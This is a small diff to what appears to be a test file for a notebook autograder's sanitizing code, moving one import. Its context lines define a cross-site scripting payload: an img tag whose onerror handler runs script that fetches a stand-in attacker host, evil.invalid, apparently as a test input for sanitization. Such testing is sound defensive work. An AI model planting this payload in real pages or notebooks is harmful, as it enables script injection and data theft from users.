@@ -11,7 +11,8 @@ from copy import deepcopy
 from nbformat import NotebookNode, from_dict
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
 
-from autograder.pipeline.sanitize import plain_notebook, plain_outputs
+from autograder.feedback.plain import plain_outputs
+from autograder.pipeline.sanitize import plain_notebook
 
 JS = "window.hacked=1;console.log(1);fetch('//evil.invalid/')"
 TAG = f'<img src="x" onerror="{JS}">'
